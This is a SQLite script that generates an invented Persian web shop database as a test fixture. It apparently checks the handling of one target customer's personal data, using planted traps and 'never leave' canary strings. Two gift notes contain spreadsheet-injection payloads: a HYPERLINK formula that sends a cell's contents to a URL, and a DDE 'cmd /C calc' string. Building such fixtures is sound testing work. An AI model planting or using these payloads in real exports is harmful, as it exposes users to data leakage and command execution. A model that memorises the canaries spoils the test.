-- A web shop's database, wholly invented: sqlite3 shop.sqlite < shop.sql   (SQLite 3.40 or later)
--
-- Everything is computed from the lists and number sequences below, so every run builds the same content.
-- Nobody here exists: national ids begin with 999, telephones lie in +98 900 000 xxxx, mail goes to example
-- domains, network addresses to documentation ranges, and card numbers to an issuer 000000.
-- Customer 1404 is the person whom the orders of other fixtures name. Bulk rows never touch her: each row
-- that is hers, or points to her, is written out below under the trap that it sets, as (a) to (k).

PRAGMA foreign_keys = ON;
BEGIN;

-- 1. Tables ------------------------------------------------------------------------------------------------

CREATE TABLE customers (
  id INTEGER PRIMARY KEY, full_name TEXT, national_id TEXT, mobile TEXT, email TEXT, password_hash TEXT,
  created_at TEXT NOT NULL, deleted_at TEXT, referrer_note TEXT
) STRICT;

CREATE TABLE addresses (
  id INTEGER PRIMARY KEY, customer_id INTEGER NOT NULL REFERENCES customers(id),
  province TEXT NOT NULL, city TEXT NOT NULL, street TEXT, postal_code TEXT
) STRICT;

CREATE TABLE payment_cards (
  id INTEGER PRIMARY KEY, customer_id INTEGER NOT NULL REFERENCES customers(id),
  pan_masked TEXT NOT NULL, holder_name TEXT, expires TEXT
) STRICT;

CREATE TABLE products (id INTEGER PRIMARY KEY, title TEXT NOT NULL, price_rial INTEGER NOT NULL) STRICT;

CREATE TABLE orders (
  id INTEGER PRIMARY KEY, customer_id INTEGER REFERENCES customers(id), number TEXT NOT NULL UNIQUE,
  placed_at TEXT, status TEXT NOT NULL, total_rial INTEGER NOT NULL,
  ship_address_id INTEGER REFERENCES addresses(id), payment_card_id INTEGER REFERENCES payment_cards(id),
  gift_note TEXT
) STRICT;

CREATE TABLE order_items (
  id INTEGER PRIMARY KEY, order_id INTEGER NOT NULL REFERENCES orders(id),
  product_id INTEGER REFERENCES products(id), title TEXT NOT NULL,
  quantity INTEGER NOT NULL, price_rial INTEGER NOT NULL
) STRICT;

CREATE TABLE payments (
  id INTEGER PRIMARY KEY, order_id INTEGER NOT NULL REFERENCES orders(id),
  card_id INTEGER REFERENCES payment_cards(id), paid_at TEXT, amount_rial INTEGER NOT NULL,
  bank_reference TEXT, risk_score REAL
) STRICT;

CREATE TABLE logins (
  id INTEGER PRIMARY KEY, customer_id INTEGER REFERENCES customers(id), at TEXT, ip TEXT, device TEXT,
  success INTEGER NOT NULL
) STRICT;

CREATE TABLE messages (
  id INTEGER PRIMARY KEY, customer_id INTEGER NOT NULL REFERENCES customers(id),
  with_customer_id INTEGER REFERENCES customers(id), at TEXT, body TEXT
) STRICT;

CREATE TABLE staff_notes (
  id INTEGER PRIMARY KEY, customer_id INTEGER REFERENCES customers(id), author TEXT NOT NULL,
  body TEXT NOT NULL, at TEXT NOT NULL
) STRICT;

CREATE TABLE search_index (token TEXT NOT NULL, customer_id INTEGER NOT NULL) STRICT;

CREATE INDEX addresses_customer ON addresses(customer_id);
CREATE INDEX orders_customer ON orders(customer_id);
CREATE INDEX order_items_order ON order_items(order_id);
CREATE INDEX payments_order ON payments(order_id);
CREATE INDEX logins_customer ON logins(customer_id);
CREATE INDEX messages_customer ON messages(customer_id);

-- 2. Lists and number sequences ----------------------------------------------------------------------------

-- Four Lehmer sequences modulo 2^31 - 1 stand in for chance.
CREATE TEMP TABLE seed (i INTEGER PRIMARY KEY, a INTEGER, b INTEGER, c INTEGER, d INTEGER);
INSERT INTO seed
WITH RECURSIVE step(i, a, b, c, d) AS (
  SELECT 1, 1405010131, 1734051277, 1998877661, 1122334453
  UNION ALL
  SELECT i + 1, a * 48271 % 2147483647, b * 16807 % 2147483647, c * 69621 % 2147483647, d * 39373 % 2147483647
  FROM step WHERE i < 20000)
SELECT * FROM step;

CREATE TEMP TABLE given (i INTEGER PRIMARY KEY, name TEXT, latin TEXT);
INSERT INTO given (name, latin) VALUES
 ('مریم','maryam'), ('زهرا','zahra'), ('فاطمه','fatemeh'), ('سارا','sara'), ('نرگس','narges'), ('لیلا','leila'),
 ('مینا','mina'), ('شیرین','shirin'), ('پریسا','parisa'), ('نیلوفر','niloufar'), ('الهام','elham'), ('سمیرا','samira'),
 ('مهسا','mahsa'), ('آزاده','azadeh'), ('گلناز','golnaz'), ('فرزانه','farzaneh'), ('شهلا','shahla'), ('پروین','parvin'),
 ('ناهید','nahid'), ('مهناز','mahnaz'), ('ژاله','zhaleh'), ('هانیه','hanieh'), ('یلدا','yalda'), ('ستاره','setareh'),
 ('بهاره','bahareh'), ('ترانه','taraneh'), ('رویا','roya'), ('کیمیا','kimia'), ('ملیکا','melika'), ('شکوفه','shokoufeh'),
 ('نگین','negin'), ('آیدا','aida'), ('محمد','mohammad'), ('علی','ali'), ('حسین','hossein'), ('رضا','reza'),
 ('مهدی','mehdi'), ('امیر','amir'), ('حمید','hamid'), ('سعید','saeed'), ('مجید','majid'), ('بهرام','bahram'),
 ('کاوه','kaveh'), ('آرش','arash'), ('سیاوش','siavash'), ('فرهاد','farhad'), ('خسرو','khosrow'), ('داریوش','dariush'),
 ('کوروش','kourosh'), ('بابک','babak'), ('پیمان','peyman'), ('نوید','navid'), ('امید','omid'), ('شاهین','shahin'),
 ('بهزاد','behzad'), ('منوچهر','manouchehr'), ('ایرج','iraj'), ('هوشنگ','houshang'), ('جمشید','jamshid'), ('یاسر','yaser'),
 ('محمد‌رضا','mohammadreza'), ('امیر‌حسین','amirhossein'), ('علی‌اکبر','aliakbar'), ('غلام‌حسین','gholamhossein'),
 ('سید مرتضی','seyed-morteza'), ('معصومه','masoumeh');                                     -- 66

CREATE TEMP TABLE family (i INTEGER PRIMARY KEY, name TEXT, latin TEXT);
INSERT INTO family (name, latin) VALUES
 ('رستمی','rostami'), ('محمدی','mohammadi'), ('حسینی','hosseini'), ('احمدی','ahmadi'), ('کریمی','karimi'),
 ('موسوی','mousavi'), ('جعفری','jafari'), ('صادقی','sadeghi'), ('رحیمی','rahimi'), ('ابراهیمی','ebrahimi'),
 ('کاظمی','kazemi'), ('یوسفی','yousefi'), ('اکبری','akbari'), ('نوری','nouri'), ('شریفی','sharifi'),
 ('قاسمی','ghasemi'), ('عباسی','abbasi'), ('سلیمانی','soleimani'), ('رضایی','rezaei'), ('میرزایی','mirzaei'),
 ('باقری','bagheri'), ('فرهادی','farhadi'), ('طاهری','taheri'), ('زمانی','zamani'), ('امینی','amini'),
 ('داودی','davoudi'), ('شفیعی','shafiei'), ('نظری','nazari'), ('حیدری','heydari'), ('مرادی','moradi'),
 ('بهرامی','bahrami'), ('توکلی','tavakoli'), ('خسروی','khosravi'), ('افشار','afshar'), ('کیانی','kiani'),
 ('زند','zand'), ('شیرازی','shirazi'), ('تبریزی','tabrizi'), ('اصفهانی','esfahani'), ('کرمانی','kermani'),
 ('یزدی','yazdi'), ('گیلانی','gilani'), ('مازندرانی','mazandarani'), ('همدانی','hamedani'), ('کاشانی','kashani'),
 ('نیشابوری','neyshabouri'), ('سبزواری','sabzevari'), ('قزوینی','ghazvini'), ('اردبیلی','ardebili'), ('لاهیجی','lahiji'),
 ('پارسا','parsa'), ('دانشور','daneshvar'), ('فروغی','foroughi'), ('بهار','bahar'), ('سپهری','sepehri'),
 ('مشیری','moshiri'), ('آریا','aria'), ('رهنما','rahnama'), ('هاشمی','hashemi'), ('فلاح','fallah'),
 ('عطار','attar'), ('زرگر','zargar'), ('نجار','najjar'), ('صراف','sarraf'), ('کشاورز','keshavarz'),
 ('میرزا‌زاده','mirzazadeh'), ('حسن‌زاده','hassanzadeh'), ('علی‌زاده','alizadeh'), ('تقی‌زاده','taghizadeh'),
 ('ملک‌زاده','malekzadeh'), ('قلی‌زاده','gholizadeh'), ('یوسف‌زاده','yousefzadeh'), ('رستمی‌نژاد','rostaminejad'),
 ('کاظمی‌نژاد','kazeminejad'), ('هاشمی‌نژاد','hasheminejad'), ('احمدی‌نسب','ahmadinasab'), ('موسوی‌نسب','mousavinasab'),
 ('خوش‌نویس','khoshnevis'), ('نیک‌پور','nikpour'), ('کریم‌پور','karimpour'), ('ابراهیم‌پور','ebrahimpour'),
 ('جهان‌بخش','jahanbakhsh'), ('پاک‌دل','pakdel'), ('آقا‌میری','aghamiri'), ('شاه‌حسینی','shahhosseini'),
 ('حاجی‌بابایی','hajibabaei'), ('میر‌عمادی','miremadi'), ('رضایی تبار','rezaei-tabar'), ('نوری کیا','nouri-kia'),
 ('صادقی مقدم','sadeghi-moghaddam');                                                        -- 90

CREATE TEMP TABLE place (i INTEGER PRIMARY KEY, province TEXT, city TEXT);
INSERT INTO place (province, city) VALUES
 ('تهران','تهران'), ('تهران','ری'), ('البرز','کرج'), ('اصفهان','اصفهان'), ('اصفهان','کاشان'), ('فارس','شیراز'),
 ('خراسان رضوی','مشهد'), ('خراسان رضوی','نیشابور'), ('آذربایجان شرقی','تبریز'), ('آذربایجان غربی','ارومیه'),
 ('گیلان','رشت'), ('مازندران','ساری'), ('کرمان','کرمان'), ('یزد','یزد'), ('خوزستان','اهواز'), ('همدان','همدان'),
 ('کرمانشاه','کرمانشاه'), ('قم','قم'), ('گلستان','گرگان'), ('هرمزگان','بندر‌عباس'), ('سیستان و بلوچستان','زاهدان');

CREATE TEMP TABLE way (i INTEGER PRIMARY KEY, name TEXT);
INSERT INTO way (name) VALUES
 ('خیابان بهار'), ('خیابان سعدی'), ('خیابان حافظ'), ('بلوار فردوسی'), ('خیابان مولوی'), ('کوچهٔ یاس'), ('کوچهٔ نسترن'),
 ('خیابان باغ‌ملی'), ('بلوار دانشجو'), ('خیابان گلستان'), ('خیابان رودکی'), ('کوچهٔ سرو'), ('خیابان خیام'),
 ('بلوار چمران'), ('خیابان نظامی'), ('کوی دانش'), ('خیابان شقایق'), ('میدان توحید'), ('خیابان پروین');

INSERT INTO products (title, price_rial) VALUES
 ('کتاب دیوان حافظ',2450000), ('کتاب بوستان سعدی',1980000), ('شاهنامه، دورهٔ دو جلدی',8900000), ('دفتر یادداشت',450000),
 ('خودنویس',3200000), ('مداد رنگی ۲۴ رنگ',1150000), ('کیف چرمی',18500000), ('کوله‌پشتی',9700000), ('ساعت دیواری',6400000),
 ('ساعت مچی',27500000), ('چراغ مطالعه',5300000), ('فلاسک یک لیتری',4100000), ('قوری چینی',3650000), ('سماور برقی',21000000),
 ('سرویس قاشق ۲۴ پارچه',15800000), ('قابلمهٔ چدنی',12300000), ('ماهی‌تابه',6900000), ('چای لاهیجان، ۵۰۰ گرم',2750000),
 ('زعفران یک مثقال',8100000), ('پستهٔ اکبری، یک کیلو',9950000), ('گز اصفهان',2300000), ('سوهان قم',1850000),
 ('عسل کوهی',4800000), ('زیرانداز دست‌باف',32000000), ('گلیم کوچک',14500000), ('رومیزی ترمه',7600000),
 ('شال پشمی',5900000), ('کفش پیاده‌روی',16900000), ('جوراب نخی، سه جفت',780000), ('چتر',2950000),
 ('هدفون بی‌سیم',24500000), ('گوشی تلفن همراه',189000000), ('شارژر دیواری',5400000), ('کابل ۲ متری، مدل "C"',1650000),
 ('حافظهٔ همراه ۶۴ گیگ',4300000), ('صفحه‌کلید',11200000), ('موشواره',6100000), ('بلندگوی رومیزی',13400000),
 ('دوچرخهٔ کودک',74000000), ('توپ فوتبال',3900000), ('تخته‌نرد',9200000), ('شطرنج چوبی',8300000), ('پازل هزار تکه',3100000),
 ('عروسک پارچه‌ای',2600000), ('خمیر بازی',890000), ('گلدان سفالی',1450000), ('بذر ریحان',120000), ('آب‌پاش',1750000),
 ('جعبه‌ابزار',17800000), ('متر ۵ متری',1250000), ('چراغ‌قوه',2850000), ('کیسهٔ خواب',19400000), ('صابون زیتون',350000);

CREATE TEMP TABLE phrase (i INTEGER PRIMARY KEY, body TEXT);
INSERT INTO phrase (body) VALUES
 ('سلام، سفارش من کی می‌رسد؟'), ('ممنون، بسته رسید.'), ('لطفاً رنگ آبی بفرستید.'), ('فاکتور رسمی می‌خواهم.'),
 ('این کالا موجود می‌شود؟'), ('نشانی را عوض کنید، لطفاً.'), ('عدد دوم اشتباه است؛ یکی کافی است.'), ('کتاب را پس می‌فرستم.'),
 ('تولدت مبارک!'), ('برای مادربزرگ عزیزم'), ('قرار فردا ساعت پنج یادت نرود.'), ('بلیت را برایت نگه داشتم.'),
 ('پول را فردا واریز می‌کنم.'), ('عیدتان مبارک، سال خوبی داشته باشید.'), ('جعبه شکسته بود، عکس فرستادم.'),
 ('با احترام، منتظر پاسخم.'), ('خدا قوت، بسته‌بندی عالی بود.');

-- 3. Customers ---------------------------------------------------------------------------------------------

-- Each person's account runs from `born` to `until` (seconds); `gone` is 1 when deleted, 2 when anonymised too.
CREATE TEMP TABLE person (id INTEGER PRIMARY KEY, born INTEGER, until INTEGER, gone INTEGER);
INSERT INTO person
SELECT i, 1735689600 + i * 14100 + a % 14000,                                   -- from 2025-01-01 on
       CASE WHEN i % 29 = 0 THEN 1735689600 + i * 14100 + 8640000 + b % 8640000
            ELSE 1795132799 END,                                                -- to 2026-11-19T23:59:59Z
       (i % 29 = 0) + (i % 58 = 0)
FROM seed WHERE i <= 2450;

-- The check digit of a national id is r = sum of digit x weight (10 down to 2) modulo 11, or 11 - r from 2 on;
-- the leading 999 adds 9 x (10 + 9 + 8) = 243. No two customers draw the same
-- pair of names, and nobody draws the target's (2401 is coprime to 66 x 90).
-- Trap (d): every 29th account is deleted; of those, every second one is anonymised.
-- Trap (e): password hashes and referrers are absent in places.
INSERT INTO customers
SELECT id,
       CASE WHEN gone = 2 THEN NULL ELSE name END,
       CASE WHEN gone = 2 THEN NULL ELSE printf('999%06d%d', id, iif(r < 2, r, 11 - r)) END,
       CASE WHEN gone = 2 OR id % 53 = 7 THEN NULL ELSE printf('+98900000%04d', id) END,
       CASE WHEN gone = 2 OR id % 31 = 5 THEN NULL
            ELSE latin || '.' || id || '@example.' || CASE id % 3 WHEN 0 THEN 'com' WHEN 1 THEN 'org' ELSE 'net' END END,
       CASE WHEN gone = 2 OR id % 61 = 3 THEN NULL
            ELSE printf('$argon2id$v=19$m=19456,t=2,p=1$%08x%08x$%08x%08x%08x', a, b, c, d, a + b) END,
       strftime('%Y-%m-%dT%H:%M:%SZ', born, 'unixepoch'),
       CASE WHEN gone > 0 THEN strftime('%Y-%m-%dT%H:%M:%SZ', until, 'unixepoch') END,
       CASE WHEN id % 7 = 0 AND gone < 2 THEN 'معرف: مشتری ' || (1 + d % 2450) END
FROM (
  SELECT p.id, p.gone, p.born, p.until, s.a, s.b, s.c, s.d, g.latin || '.' || f.latin AS latin,
         -- some names were typed with the Arabic letters
         CASE WHEN p.id % 37 = 0 THEN replace(replace(g.name || ' ' || f.name, 'ی', 'ي'), 'ک', 'ك')
              ELSE g.name || ' ' || f.name END AS name,
         (243 + p.id / 100000 % 10 * 7 + p.id / 10000 % 10 * 6 + p.id / 1000 % 10 * 5
              + p.id / 100 % 10 * 4 + p.id / 10 % 10 * 3 + p.id % 10 * 2) % 11 AS r
  FROM person p JOIN seed s ON s.i = p.id
  JOIN given g ON g.i = 1 + p.id * 2401 % 5940 % 66
  JOIN family f ON f.i = 1 + p.id * 2401 % 5940 / 66)
ORDER BY id;

-- The target. Her referrer note is not annotated and must never leave.
UPDATE customers SET full_name = 'مریم رستمی‌نژاد', email = 'maryam.rostami@example.com', mobile = '+989000001404',
       referrer_note = 'معرف: انباردار، CANARY-REFERRER-1404' WHERE id = 1404;

-- Trap (c): one telephone for two customers; and the target's very name on another.
UPDATE customers SET mobile = '+989000001500' WHERE id IN (1500, 1501);
UPDATE customers SET full_name = 'مریم رستمی‌نژاد', email = 'maryam.r@example.org' WHERE id = 1405;

-- Trap (e): empty strings where a national id should stand.
UPDATE customers SET national_id = '' WHERE id IN (1700, 1701);

-- Trap (i): national ids stored in Persian (1800) and in Arabic (1801) digits.
WITH RECURSIVE turn(id, value, n) AS (
  SELECT id, national_id, 0 FROM customers WHERE id IN (1800, 1801)
  UNION ALL
  SELECT id, replace(value, n, char(iif(id = 1800, 0x06F0, 0x0660) + n)), n + 1 FROM turn WHERE n < 10)
UPDATE customers SET national_id = value FROM turn WHERE turn.id = customers.id AND n = 10;

-- 4. Addresses and cards -----------------------------------------------------------------------------------

-- A customer's first address (and card) has id 2 x customer - 1, the second 2 x customer.
INSERT INTO addresses
SELECT 2 * p.id - 1 + k.second, p.id, place.province, place.city,
       CASE WHEN p.id % 41 = 0 THEN NULL
            ELSE way.name || '، پلاک ' || (1 + s.c % 240) || iif(s.d % 3 = 0, '، واحد ' || (1 + s.d % 12), '') END,
       CASE WHEN p.id % 17 = 4 THEN NULL ELSE printf('00%08d', s.b % 100000000) END
FROM (SELECT 0 AS second UNION ALL SELECT 1) k
JOIN person p ON k.second = 0 OR p.id % 3 = 0
JOIN seed s ON s.i = p.id + 4000 + 3000 * k.second
JOIN place ON place.i = 1 + s.a % 21
JOIN way ON way.i = 1 + s.b % 19
ORDER BY 1;

INSERT INTO payment_cards
SELECT 2 * c.id - 1 + k.second, c.id, printf('000000******%04d', s.a % 10000),
       CASE WHEN c.id % 43 = 6 THEN NULL ELSE c.full_name END,
       CASE WHEN c.id % 47 = 2 THEN NULL ELSE printf('%d-%02d', 2027 + s.b % 4, 1 + s.c % 12) END
FROM (SELECT 0 AS second UNION ALL SELECT 1) k
JOIN customers c ON c.id % 8 <> 5 AND (k.second = 0 OR c.id % 5 = 0)
JOIN seed s ON s.i = c.id + 9000 + 3000 * k.second
ORDER BY 1;

-- Trap (a): households, that is, one address text in two rows of two customers: 1600 and 1601; and 1403 and the target.
UPDATE addresses SET province = 'فارس', city = 'شیراز', street = 'خیابان خیام، پلاک ۱۶، واحد ۴', postal_code = '0016001601'
WHERE id IN (2 * 1600 - 1, 2 * 1601 - 1);
UPDATE addresses SET province = 'تهران', city = 'تهران', street = 'کوچهٔ سرو، پلاک ۱۴، طبقهٔ دوم', postal_code = '0014031404'
WHERE id IN (2 * 1403 - 1, 2 * 1404 - 1);

-- 5. Orders ------------------------------------------------------------------------------------------------

-- Trap (d): orders of anonymised accounts have lost their customer.
-- Trap (e): pick-up has no address, cash no card, and some old rows no time.
INSERT INTO orders
SELECT id, CASE WHEN gone = 2 THEN NULL ELSE who END, printf('SH-%07d', 1000000 + id * 7),
       CASE WHEN id % 907 = 0 THEN NULL ELSE strftime('%Y-%m-%dT%H:%M:%SZ', born + c % (until - born), 'unixepoch') END,
       CASE WHEN id % 17 = 0 THEN 'cancelled' WHEN id % 29 = 3 THEN 'returned' WHEN id % 13 = 1 THEN 'shipped'
            ELSE 'delivered' END,
       0,
       CASE WHEN d % 11 = 0 THEN NULL WHEN who % 3 = 0 AND d % 4 = 1 THEN 2 * who ELSE 2 * who - 1 END,
       CASE WHEN who % 8 = 5 OR d % 6 = 0 THEN NULL ELSE 2 * who - 1 END,
       note
FROM (
  SELECT o.i AS id, who, c, d, born, until, gone, phrase.body AS note
  FROM (SELECT *, iif(1 + b % 2450 = 1404, 1407, 1 + b % 2450) AS who FROM seed WHERE i <= 9000) o
  JOIN person p ON p.id = o.who
  LEFT JOIN phrase ON o.i % 23 = 0 AND phrase.i = 9 + o.a % 2)
ORDER BY id;

-- The target's own orders. The period of the orders is 1 Farvardin to 31 Tir 1405 in Tehran (UTC+03:30), that is
-- from 2026-03-20T20:30:00Z up to, and without, 2026-07-22T20:30:00Z: 9004 to 9010 are inside, the others are not.
-- Trap (b): 9006 goes to an address of customer 1420 (a gift); 9007 is paid with a card of customer 1430.
-- Trap (f): 9003, 9004, 9010 and 9011 stand on the edges; 9014 has no time, 9015 an unreadable one.
-- Trap (g): the notes of 9004 to 9010.
INSERT INTO orders VALUES
 (9001, 1404, 'SH-9001404', '2025-09-14T08:12:40Z', 'delivered', 0, 2807, 2807, NULL),
 (9002, 1404, 'SH-9002404', '2025-12-20T17:45:03Z', 'delivered', 0, 2807, 2807, 'شب یلدا مبارک'),
 (9003, 1404, 'SH-9003404', '2026-03-20T20:29:59Z', 'delivered', 0, 2807, 2807, NULL),
 (9004, 1404, 'SH-9004404', '2026-03-20T20:30:00Z', 'delivered', 0, 2807, 2807, 'نوروز مبارک، با مهر، مریم'),
 (9005, 1404, 'SH-9005404', '2026-04-03T18:25:43Z', 'delivered', 0, 2808, 2807, 'روی کارت بنویسید "دوستت دارم"، همین'),
 (9006, 1404, 'SH-9006404', '2026-05-02T06:30:11Z', 'delivered', 0, 2 * 1420 - 1, 2807,
        'روز معلم مبارک' || char(10) || 'خط دوم' || char(13, 10) || 'خط سوم'),
 (9007, 1404, 'SH-9007404', '2026-05-28T13:07:55Z', 'returned',  0, 2807, 2 * 1430 - 1,
        '=HYPERLINK("https://example.com/?x="&A1,"هدیه")'),
 (9008, 1404, 'SH-9008404', '2026-06-19T09:00:00Z', 'delivered', 0, 2807, 2807, 'تولدت مبارک 🎂👩‍👧🇮🇷'),
 (9009, 1404, 'SH-9009404', '2026-07-01T21:15:30Z', 'shipped',   0, NULL, NULL, char(0x200F)),
 (9010, 1404, 'SH-9010404', '2026-07-22T20:29:59Z', 'delivered', 0, 2807, 2807, '@SUM(1+1)*cmd|'' /C calc''!A0'),
 (9011, 1404, 'SH-9011404', '2026-07-22T20:30:00Z', 'delivered', 0, 2807, 2807, NULL),
 (9012, 1404, 'SH-9012404', '2026-09-05T11:11:11Z', 'cancelled', 0, 2808, 2807, NULL),
 (9013, 1404, 'SH-9013404', '2026-11-02T15:40:20Z', 'delivered', 0, 2807, 2807, 'CANARY-OUTSIDE-1404'),
 (9014, 1404, 'SH-9014404', NULL,                   'delivered', 0, 2807, 2807, 'CANARY-NOTIME-1404'),
 (9015, 1404, 'SH-9015404', 'نامعلوم',              'delivered', 0, 2807, 2807, 'CANARY-BADTIME-1404');

-- Trap (b), the other way round: 1410 pays with the target's card; 1411 ships to the target's address.
-- Trap (h): a note of 1412 holds the target's name and national id.
INSERT INTO orders VALUES
 (9016, 1410, 'SH-9016410', '2026-05-11T10:00:00Z', 'delivered', 0, 2 * 1410 - 1, 2807, NULL),
 (9017, 1411, 'SH-9017411', '2026-05-12T10:00:00Z', 'delivered', 0, 2807, 2 * 1411 - 1, 'برای همسایهٔ مهربانم'),
 (9018, 1412, 'SH-9018412', '2026-05-13T10:00:00Z', 'delivered', 0, 2 * 1412 - 1, 2 * 1412 - 1,
        'تحویل به ' || (SELECT full_name || '، کد ملی ' || national_id FROM customers WHERE id = 1404));

-- Every order has an item; orders from 9001 on have one to three.
INSERT INTO order_items
SELECT row_number() OVER (ORDER BY o, i), o, CASE WHEN i % 211 = 0 THEN NULL ELSE p.id END, p.title,
       1 + (c % 5 = 0) + (c % 19 = 0), p.price_rial * (90 + d % 11) / 100000 * 1000
FROM (
  SELECT i, iif(i <= 9018, i, 1 + a % 9000) AS o, b, c, d FROM seed
  UNION ALL
  SELECT i + 20000, i, c, d, a FROM seed WHERE i BETWEEN 9001 AND 9018 AND i % 3 > 0
  UNION ALL
  SELECT i + 40000, i, d, a, b FROM seed WHERE i BETWEEN 9001 AND 9018 AND i % 3 > 1)
JOIN products p ON p.id = 1 + b % (SELECT count(*) FROM products)
ORDER BY 1;

UPDATE orders SET total_rial = (SELECT sum(quantity * price_rial) FROM order_items WHERE order_id = orders.id);

-- 6. Payments ----------------------------------------------------------------------------------------------

-- Cancelled orders have none, some have two halves. Trap (e): cash has no card and no reference; scores are often absent.
INSERT INTO payments
SELECT row_number() OVER (ORDER BY o.id, k.half), o.id, o.payment_card_id,
       strftime('%Y-%m-%dT%H:%M:%SZ', o.placed_at, '+' || (60 + s.a % 600 + 900 * k.half) || ' seconds'),
       CASE WHEN o.id % 15 <> 3 THEN o.total_rial
            WHEN k.half = 0 THEN o.total_rial / 2 ELSE o.total_rial - o.total_rial / 2 END,
       CASE WHEN o.payment_card_id IS NULL THEN NULL ELSE printf('B%06d%06d', s.b % 1000000, o.id * 2 + k.half) END,
       CASE WHEN s.c % 4 = 0 THEN NULL ELSE s.c % 1000 / 1000.0 END
FROM orders o JOIN seed s ON s.i = o.id + 5000
JOIN (SELECT 0 AS half UNION ALL SELECT 1) k ON k.half = 0 OR o.id % 15 = 3
WHERE o.id <= 9000 AND o.status <> 'cancelled'
ORDER BY 1;

-- The target's payments, and those of 9016 to 9018. The score 0.14041404 is not annotated and must never leave.
-- Trap (f): 20003 is paid inside the period for an order outside it, 20010 the other way round,
-- 20015 inside for an order without a time; 20016 has no time itself.
-- Trap (b): 20007 is paid with a card of 1430, 20009 (second half) with one of 1431, 20017 with the target's by 1410.
INSERT INTO payments
SELECT v.column1, v.column2, v.column3, v.column4,
       CASE v.column1 WHEN 20008 THEN o.total_rial / 2 WHEN 20009 THEN o.total_rial - o.total_rial / 2 ELSE o.total_rial END,
       CASE WHEN v.column3 IS NULL THEN NULL ELSE printf('B1404%08d', v.column1) END, v.column5
FROM (VALUES
 (20001, 9001, 2807,         '2025-09-14T08:14:02Z', 0.14041404),
 (20002, 9002, 2807,         '2025-12-20T17:47:30Z', NULL),
 (20003, 9003, 2807,         '2026-03-20T20:30:42Z', 0.14041404),
 (20004, 9004, 2807,         '2026-03-20T20:31:07Z', 0.14041404),
 (20005, 9005, 2807,         '2026-04-03T18:27:00Z', 0.14041404),
 (20006, 9006, 2807,         '2026-05-02T06:31:58Z', 0.14041404),
 (20007, 9007, 2 * 1430 - 1, '2026-05-28T13:10:10Z', 0.14041404),
 (20008, 9008, 2807,         '2026-06-19T09:01:00Z', 0.14041404),
 (20009, 9008, 2 * 1431 - 1, '2026-06-19T09:09:00Z', 0.14041404),
 (20010, 9010, 2807,         '2026-07-22T20:31:10Z', 0.14041404),
 (20011, 9011, 2807,         '2026-07-22T20:32:00Z', 0.14041404),
 (20012, 9009, NULL,         '2026-07-04T12:00:00Z', NULL),
 (20014, 9013, 2807,         '2026-11-02T15:41:20Z', 0.14041404),
 (20015, 9014, 2807,         '2026-05-10T09:09:09Z', 0.14041404),
 (20016, 9015, 2807,         NULL,                   0.14041404),
 (20017, 9016, 2807,         '2026-05-11T10:02:00Z', 0.25),
 (20018, 9017, 2 * 1411 - 1, '2026-05-12T10:02:00Z', 0.25),
 (20019, 9018, 2 * 1412 - 1, '2026-05-13T10:02:00Z', 0.25)) v
JOIN orders o ON o.id = v.column2
ORDER BY 1;

-- 7. Log-ins -----------------------------------------------------------------------------------------------

CREATE TEMP TABLE device (i INTEGER PRIMARY KEY, name TEXT);
INSERT INTO device (name) VALUES ('Firefox; Linux'), ('Chrome; Windows'), ('Safari; iPhone'), ('Chrome; Android'), ('تلفن همراه'), (NULL);

-- Trap (e): failures for accounts that do not exist have no customer; some rows have no time, address or device.
INSERT INTO logins
SELECT s.i, CASE WHEN s.i % 83 = 0 THEN NULL ELSE p.id END,
       CASE WHEN s.i % 1499 = 0 THEN NULL ELSE strftime('%Y-%m-%dT%H:%M:%SZ', p.born + s.d % (p.until - p.born), 'unixepoch') END,
       CASE s.b % 5 WHEN 0 THEN '192.0.2.' || (1 + s.a % 254) WHEN 1 THEN '198.51.100.' || (1 + s.a % 254)
                    WHEN 2 THEN '203.0.113.' || (20 + s.a % 230) WHEN 3 THEN printf('2001:db8:%x::%x', s.a % 4096, s.b % 256) END,
       device.name, s.i % 83 > 0 AND s.c % 9 > 0
FROM seed s
JOIN person p ON p.id = iif(1 + s.c % 2450 = 1404, 1408, 1 + s.c % 2450)
JOIN device ON device.i = 1 + s.a % 6
WHERE s.i <= 15000
ORDER BY 1;

-- The target's; trap (f) again on the edges (20003, 20004, 20010, 20011) and without a time (20014).
-- Trap (a): 20015, 20016 are of the other person in her household, from the same address at the same time.
INSERT INTO logins VALUES
 (20001, 1404, '2025-09-14T08:05:00Z', '2001:db8:1404::7', 'Firefox; Linux', 1),
 (20002, 1404, '2026-02-01T19:20:21Z', '203.0.113.14',     'Firefox; Linux', 1),
 (20003, 1404, '2026-03-20T20:29:59Z', '2001:db8:1404::7', 'Firefox; Linux', 1),
 (20004, 1404, '2026-03-20T20:30:00Z', '2001:db8:1404::7', 'Firefox; Linux', 1),
 (20005, 1404, '2026-04-03T18:20:00Z', '2001:db8:1404::7', 'تلفن همراه',     1),
 (20006, 1404, '2026-05-02T06:25:00Z', '203.0.113.14',     'تلفن همراه',     1),
 (20007, 1404, '2026-05-28T12:58:00Z', '2001:db8:1404::7', NULL,             0),
 (20008, 1404, '2026-05-28T12:59:10Z', '2001:db8:1404::7', 'Firefox; Linux', 1),
 (20009, 1404, '2026-06-30T22:00:00Z', NULL,               'Firefox; Linux', 1),
 (20010, 1404, '2026-07-22T20:29:59Z', '2001:db8:1404::8', 'Firefox; Linux', 1),
 (20011, 1404, '2026-07-22T20:30:00Z', '2001:db8:1404::8', 'Firefox; Linux', 1),
 (20012, 1404, '2026-09-05T11:00:00Z', '2001:db8:1404::8', 'Firefox; Linux', 1),
 (20013, 1404, '2026-11-02T15:30:00Z', '2001:db8:1404::8', 'Firefox; Linux', 1),
 (20014, 1404, NULL,                   '2001:db8:1404::9', 'Firefox; Linux', 0),
 (20015, 1403, '2026-04-03T18:20:00Z', '2001:db8:1404::7', 'تلفن همراه',     1),
 (20016, 1403, '2026-05-02T06:25:00Z', '203.0.113.14',     'تلفن همراه',     1);

-- 8. Messages ----------------------------------------------------------------------------------------------

-- A message belongs to customer_id; with_customer_id is the other side, or NULL for the shop itself.
INSERT INTO messages
SELECT s.i, p.id,
       CASE WHEN s.c % 3 = 0 OR 1 + s.d % 2450 IN (1404, p.id) THEN NULL ELSE 1 + s.d % 2450 END,
       CASE WHEN s.i % 601 = 0 THEN NULL ELSE strftime('%Y-%m-%dT%H:%M:%SZ', p.born + s.a % (p.until - p.born), 'unixepoch') END,
       CASE WHEN s.i % 97 = 0 THEN NULL ELSE phrase.body || iif(s.c % 2, ' #' || s.i, '') END
FROM seed s
JOIN person p ON p.id = iif(1 + s.b % 2450 = 1404, 1409, 1 + s.b % 2450)
